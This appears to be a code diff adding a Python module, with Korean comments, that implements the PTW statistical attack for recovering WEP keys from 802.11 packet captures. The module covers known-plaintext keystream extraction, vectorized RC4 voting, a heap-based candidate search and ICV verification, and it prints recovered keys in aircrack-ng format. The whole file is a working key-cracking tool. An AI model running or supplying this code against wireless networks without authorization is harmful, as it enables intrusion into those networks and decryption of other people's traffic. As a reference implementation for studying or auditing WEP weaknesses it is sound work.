@@ -0,0 +1,261 @@
+import heapq
+import struct
+import zlib
+from typing import Dict, List, NamedTuple, Optional, Tuple
+
+import numpy as np
+
+from services import dot11
+from services.pcap import open_capture
+
+# PTW로 추정하는 키 바이트 합(σ) 수: 104비트 키 13바이트, 40비트 키 5바이트
+KEY_LENGTHS = (5, 13)
+SIGMA_COUNT = max(KEY_LENGTHS)
+KEYSTREAM_LENGTH = SIGMA_COUNT + 3  # σ_i 추정에 keystream[2 + i]까지 필요
+
+_IV_HEADER = 4  # IV(3) + Key ID(1)
+_ICV_LENGTH = 4
+_EXT_IV = 0x20  # Key ID 바이트의 Extended IV 비트 (TKIP/CCMP)
+
+# 평문 추정: ARP는 LLC/SNAP + ARP 헤더 16바이트, 그 외는 IPv4로 보고 LLC/SNAP + 45 00 + 전체 길이 12바이트
+_ARP_PLAINTEXT_LENGTH = 36
+_ARP_PREFIX = dot11.LLC_SNAP_PREFIX + b'\x08\x06\x00\x01\x08\x00\x06\x04\x00'
+_IP_PREFIX = dot11.LLC_SNAP_PREFIX + b'\x08\x00\x45\x00'
+
+_VERIFY_SAMPLES = 8  # 후보 키 검증용으로 보관하는 암호문 수
+
+
+class WEPResult(NamedTuple):
+    """복구한 WEP 키와 신뢰도"""
+    key: bytes
+    key_length: int
+    ivs: int
+    candidates_tried: int
+    confidence: float  # 득표 1위 값이 그대로 정답이었던 키 바이트 비율
+    ranking: List[List[Tuple[int, int]]]  # σ 위치별 상위 (값, 득표) 목록
+
+    @property
+    def key_hex(self) -> str:
+        """aircrack-ng 표기 (AA:BB:CC:...)"""
+        return ':'.join(f'{b:02X}' for b in self.key)
+
+    def to_dict(self) -> Dict[str, object]:
+        return {
+            'key': self.key_hex,
+            'ascii': self.key.decode('ascii') if all(32 <= b < 127 for b in self.key) else None,
+            'key_bits': self.key_length * 8 + 24,
+            'ivs': self.ivs,
+            'candidates_tried': self.candidates_tried,
+            'confidence': round(self.confidence, 3)
+        }
+
+
+def rc4_keystream(key: bytes, length: int) -> bytes:
+    """RC4 keystream (후보 검증용)"""
+    s = list(range(256))
+    j = 0
+    key_length = len(key)
+    for i in range(256):
+        j = (j + s[i] + key[i % key_length]) & 0xFF
+        s[i], s[j] = s[j], s[i]
+    out = bytearray(length)
+    i = j = 0
+    for n in range(length):
+        i = (i + 1) & 0xFF
+        j = (j + s[i]) & 0xFF
+        s[i], s[j] = s[j], s[i]
+        out[n] = s[(s[i] + s[j]) & 0xFF]
+    return bytes(out)
+
+
+def _known_plaintext(frame: memoryview, payload_length: int) -> bytes:
+    """암호화된 페이로드의 앞부분 평문 추정"""
+    if payload_length == _ARP_PLAINTEXT_LENGTH:
+        # 브로드캐스트면 ARP 요청, 아니면 응답
+        opcode = 1 if bytes(frame[4:10]) == dot11.BROADCAST else 2
+        return _ARP_PREFIX + bytes([opcode])
+    return _IP_PREFIX + struct.pack('>H', payload_length - 8)
+
+
+def ptw_votes(ivs: np.ndarray, keystreams: np.ndarray, known: np.ndarray) -> np.ndarray:
+    """IV/keystream 배치의 σ 위치별 득표 (SIGMA_COUNT x 256)
+
+    IV 3바이트로 KSA 첫 3단계를 모든 패킷에 대해 한 번에 계산한 뒤, 각 패킷이
+    σ_i = S3^-1[(3 + i - X[2 + i])] - (j3 + S3[3] + ... + S3[3 + i]) 값에 한 표씩 던집니다.
+
+    Args:
+        ivs: (N, 3) uint8 IV
+        keystreams: (N, KEYSTREAM_LENGTH) uint8 keystream 앞부분
+        known: (N,) 패킷별로 신뢰할 수 있는 keystream 바이트 수
+    """
+    count = len(ivs)
+    votes = np.zeros((SIGMA_COUNT, 256), dtype=np.int64)
+    if not count:
+        return votes
+
+    rows = np.arange(count)
+    s = np.tile(np.arange(256, dtype=np.int32), (count, 1))
+    j = np.zeros(count, dtype=np.int32)
+    for i in range(3):
+        j = (j + s[:, i] + ivs[:, i]) & 0xFF
+        s_i = s[:, i].copy()
+        s[:, i] = s[rows, j]
+        s[rows, j] = s_i
+
+    inverse = np.empty_like(s)
+    inverse[rows[:, None], s] = np.arange(256, dtype=np.int32)
+    sums = j[:, None] + np.cumsum(s[:, 3:3 + SIGMA_COUNT], axis=1)
+    x = keystreams.astype(np.int32)
+
+    for i in range(SIGMA_COUNT):
+        usable = known > 2 + i
+        if not usable.any():
+            break
+        index = (3 + i - x[usable, 2 + i]) & 0xFF
+        sigma = (inverse[rows[usable], index] - sums[usable, i]) & 0xFF
+        votes[i] += np.bincount(sigma, minlength=256)
+    return votes
+
+
+class PTWAttack:
+    """WEP 키 복구 (PTW 통계 공격)
+
+    캡처의 WEP 데이터 프레임에서 IV와 keystream 앞부분(암호문 XOR 추정 평문)을 모아
+    NumPy 배열로 σ 득표를 누적합니다. 득표는 더하기만 하므로 새 IV가 들어올 때마다
+    새 패킷만 계산하고 solve()를 다시 호출하면 됩니다.
+    """
+
+    def __init__(self, bssid: Optional[str] = None, batch_size: int = 4096):
+        """
+        Args:
+            bssid: 대상 AP (None이면 처음 발견한 WEP AP)
+            batch_size: 이 수만큼 IV가 쌓이면 득표에 반영
+        """
+        self.bssid = dot11.normalize_bssid(bssid) if bssid else None
+        self.batch_size = batch_size
+        self.votes = np.zeros((SIGMA_COUNT, 256), dtype=np.int64)
+        self.ivs = 0
+        self.frames = 0
+        self._seen = set()
+        self._pending_ivs = bytearray()
+        self._pending_keystreams = bytearray()
+        self._pending_known: List[int] = []
+        self._samples: List[Tuple[bytes, bytes]] = []  # (IV, 암호문 + ICV)
+
+    @classmethod
+    def from_capture(cls, path: str, bssid: Optional[str] = None) -> 'PTWAttack':
+        """캡처 파일 전체를 한 번 순회하여 득표 누적"""
+        attack = cls(bssid)
+        with open_capture(path) as reader:
+            for timestamp, frame in reader.dot11_frames():
+                attack.feed(timestamp, frame)
+        return attack
+
+    def feed(self, timestamp: float, frame: memoryview):
+        """802.11 프레임 하나 처리 (WEP 데이터 프레임만 사용)"""
+        if len(frame) < 24 or (frame[0] >> 2) & 0x3 != dot11.TYPE_DATA or not frame[1] & dot11.FLAG_PROTECTED:
+            return
+        addresses = dot11.data_addresses(frame)
+        if addresses is None:
+            return
+        bssid = dot11.mac_to_str(addresses[0])
+        if self.bssid is None:
+            self.bssid = bssid
+        elif bssid != self.bssid:
+            return
+
+        offset = dot11.data_header_length(frame)
+        body = frame[offset:]
+        if len(body) < _IV_HEADER + KEYSTREAM_LENGTH + _ICV_LENGTH or body[3] & _EXT_IV:
+            return
+        self.frames += 1
+
+        iv = bytes(body[:3])
+        iv_number = int.from_bytes(iv, 'big')
+        if iv_number in self._seen:
+            return
+        self._seen.add(iv_number)
+        self.ivs += 1
+
+        ciphertext = body[_IV_HEADER:]
+        plaintext = _known_plaintext(frame, len(ciphertext) - _ICV_LENGTH)
+        known = min(len(plaintext), KEYSTREAM_LENGTH)
+        keystream = bytes(c ^ p for c, p in zip(ciphertext[:known], plaintext))
+        self._pending_ivs += iv
+        self._pending_keystreams += keystream.ljust(KEYSTREAM_LENGTH, b'\x00')
+        self._pending_known.append(known)
+        if len(self._samples) < _VERIFY_SAMPLES:
+            self._samples.append((iv, bytes(ciphertext)))
+
+        if len(self._pending_known) >= self.batch_size:
+            self.flush()
+
+    def flush(self):
+        """대기 중인 IV를 득표에 반영"""
+        if not self._pending_known:
+            return
+        ivs = np.frombuffer(bytes(self._pending_ivs), dtype=np.uint8).reshape(-1, 3)
+        keystreams = np.frombuffer(bytes(self._pending_keystreams), dtype=np.uint8).reshape(-1, KEYSTREAM_LENGTH)
+        self.votes += ptw_votes(ivs, keystreams, np.array(self._pending_known))
+        self._pending_ivs = bytearray()
+        self._pending_keystreams = bytearray()
+        self._pending_known = []
+
+    def ranking(self, key_length: int = SIGMA_COUNT, top: int = 3) -> List[List[Tuple[int, int]]]:
+        """σ 위치별 상위 후보 (값, 득표)"""
+        self.flush()
+        order = np.argsort(-self.votes[:key_length], axis=1, kind='stable')[:, :top]
+        return [[(int(value), int(self.votes[i, value])) for value in order[i]] for i in range(key_length)]
+
+    def verify(self, key: bytes) -> bool:
+        """보관한 암호문을 복호화하여 ICV(CRC-32)가 맞는지 확인"""
+        if not self._samples:
+            return False
+        for iv, ciphertext in self._samples:
+            plaintext = bytes(c ^ k for c, k in zip(ciphertext, rc4_keystream(iv + key, len(ciphertext))))
+            if zlib.crc32(plaintext[:-_ICV_LENGTH]) != int.from_bytes(plaintext[-_ICV_LENGTH:], 'little'):
+                return False
+        return True
+
+    def solve(self, key_lengths: Tuple[int, ...] = KEY_LENGTHS, max_candidates: int = 4096,
+              depth: int = 4) -> Optional[WEPResult]:
+        """누적된 득표로 키 탐색
+
+        키 길이별로 σ 위치마다 상위 depth개 값을 두고, 1위와의 득표 차이 합이 작은 조합부터
+        최대 max_candidates개를 ICV로 검증합니다.
+        """
+        self.flush()
+        if not self._samples:
+            return None
+
+        tried = 0
+        for key_length in key_lengths:
+            votes = self.votes[:key_length]
+            order = np.argsort(-votes, axis=1, kind='stable')[:, :depth]
+            # 위치별 순위 r 선택 시 손실 = 1위 득표 - r위 득표
+            losses = votes[np.arange(key_length)[:, None], order[:, :1]] - np.take_along_axis(votes, order, axis=1)
+
+            start = (0,) * key_length
+            heap = [(0, start)]
+            visited = {start}
+            while heap and tried < max_candidates:
+                loss, ranks = heapq.heappop(heap)
+                sigmas = [int(order[i, r]) for i, r in enumerate(ranks)]
+                key = bytes((sigmas[i] - (sigmas[i - 1] if i else 0)) & 0xFF for i in range(key_length))
+                tried += 1
+                if self.verify(key):
+                    confidence = ranks.count(0) / key_length
+                    return WEPResult(key, key_length, self.ivs, tried, confidence, self.ranking(key_length))
+                for i in range(key_length):
+                    if ranks[i] + 1 < order.shape[1]:
+                        successor = ranks[:i] + (ranks[i] + 1,) + ranks[i + 1:]
+                        if successor not in visited:
+                            visited.add(successor)
+                            heapq.heappush(heap, (int(loss - losses[i, ranks[i]] + losses[i, ranks[i] + 1]), successor))
+        return None
+
+
+def recover_wep_key(path: str, bssid: Optional[str] = None) -> Tuple[PTWAttack, Optional[WEPResult]]:
+    """캡처 파일에서 WEP 키 복구 (득표 상태와 결과)"""
+    attack = PTWAttack.from_capture(path, bssid)
+    return attack, attack.solve()